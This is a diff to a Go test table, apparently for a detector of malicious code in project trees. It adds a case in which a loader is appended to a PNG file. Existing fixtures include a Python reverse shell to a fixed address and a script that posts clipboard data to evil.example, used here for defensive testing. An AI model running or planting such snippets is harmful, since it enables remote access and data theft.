@@ -142,6 +142,7 @@ var hostile = []struct {
 	{"a shell for a fixed address", tree{"setup.py": "pass\n", "a.py": "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh'])\n"}, "script-connects-out", false},
 	{"clipboard and keys", tree{"package.json": "{}", "a.py": "from pynput.keyboard import Listener\nimport pyperclip, requests\nrequests.post('https://evil.example', pyperclip.paste())\nx = 'pynput.keyboard'\n"}, "script-connects-out", false},
 	{"a font that is code", tree{"package.json": "{}", "public/fa-solid.woff2": loader}, "script-in-a-picture", true},
+	{"code behind a picture", tree{"package.json": "{}", "public/logo.png": "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00IEND\xaeB`\x82\n" + loader}, "script-in-a-picture", true},
 	{"a known bad version", tree{"package.json": `{"dependencies":{"xrpl":"4.2.2"}}`}, "dependency-known-bad", true},
 	{"a known bad version in a lock", tree{"package.json": "{}", "package-lock.json": `{"lockfileVersion":3,"packages":{"":{},"node_modules/@solana/web3.js":{"version":"1.95.7","resolved":"https://registry.npmjs.org/@solana/web3.js/-/web3.js-1.95.7.tgz"}}}`}, "dependency-known-bad", true},
 	{"a name one slip away", tree{"package.json": `{"dependencies":{"etehrs":"^6.0.0"}}`}, "dependency-resembles", false},
